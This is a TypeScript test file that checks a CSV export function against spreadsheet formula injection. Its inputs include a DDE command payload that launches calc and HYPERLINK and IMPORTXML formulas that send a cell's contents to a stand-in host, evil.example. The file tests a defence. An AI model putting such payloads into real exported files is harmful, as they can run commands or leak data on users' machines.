import { describe, expect, test } from 'vitest';
import { csvCell, csvLines } from '../../../client/export/csv.ts';

/** Reads one line of CSV as RFC 4180 has it. */
function readLine(line: string): string[] {
  return [...line.matchAll(/"((?:[^"]|"")*)"(?:,|\r\n)/g)].map(([, cell = '']) =>
    cell.replaceAll('""', '"'),
  );
}

describe('a cell of a CSV file', () => {
  test.each([
    '=1+1',
    '+49 30 1234',
    '-2',
    '@SUM(1)',
    '|calc',
    '%0A',
    '\t=1',
    '\r=1',
    '\n=1',
    '  =1+1',
    '\u00a0=1+1',
    '\u200b=1+1',
    '\ufeff=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠A1',
    "'=1+1",
    '"=1+1',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?"&A1,"click")',
    '=IMPORTXML(CONCAT("https://evil.example?",A1),"//a")',
  ])('of %j runs as no formula, and says the same', (text) => {
    const [cell = ''] = readLine(`${csvCell(text)}\r\n`);
    expect(cell).not.toMatch(/^["\s\u200b\ufeff]*[=+\-@|%＝＋－＠]/u);
    expect(cell).toBe(`'${text}`);
  });

  test.each(['Ada Lövgren', "O'Brien", 'נועה בן־דוד', 'a,b;c', 'x=1', 'me@contoso.example', ''])(
    'of %j stays as it is',
    (text) => {
      expect(readLine(`${csvCell(text)}\r\n`)).toEqual([text]);
    },
  );

  test('keeps quotes and line breaks inside itself', () => {
    expect(csvCell('say "no",\r\nor not')).toBe('"say ""no"",\r\nor not"');
    expect(csvLines([['a', 3, null]])).toBe('"a",3,""\r\n');
  });
});
